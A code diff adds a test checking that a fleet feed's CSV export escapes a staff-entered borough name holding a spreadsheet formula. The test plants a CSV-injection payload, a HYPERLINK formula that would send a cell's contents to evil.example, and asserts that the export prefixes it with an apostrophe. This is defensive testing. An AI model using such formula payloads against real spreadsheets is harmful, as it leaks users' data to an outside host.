@@ -6,10 +6,12 @@ import csv
 import io
 
 from fastapi.testclient import TestClient
+from sqlalchemy import select
 
 from fleet.feed.export import COLUMNS, export_csv
 from fleet.feed.ratelimit import Limit, RateLimiter
 from fleet.feed.snapshot import Audience, sync_committed
+from fleet.models import Borough
 from tests.feed.conftest import POINTS, T0, FeedWorld
 
 
@@ -81,3 +83,16 @@ def test_over_the_limit_is_429_with_retry_after(client: TestClient, feed_world: 
     # A token has its own, larger bucket.
     staff = feed_world.headers("staff_hackney")
     assert client.get("/sta/v1.1/Things", headers=staff).status_code == 200
+
+
+def test_a_name_staff_typed_never_becomes_a_formula(
+    client: TestClient, feed_world: FeedWorld
+) -> None:
+    with feed_world.ctx.sessions.begin() as s:
+        borough = s.scalars(select(Borough).where(Borough.code == "hackney")).one()
+        borough.name = '=HYPERLINK("http://evil.example/?"&A2,"Hackney")'
+    sync_committed(feed_world.ctx.sessions)
+    response = client.get("/feed/v1/export.csv?borough=hackney&start=2025-03-01&end=2025-03-02")
+    body = rows(response.text)
+    assert body and {r["borough"] for r in body} == {"'" + borough.name}
+    assert all(not r["result"].startswith("'") for r in body)
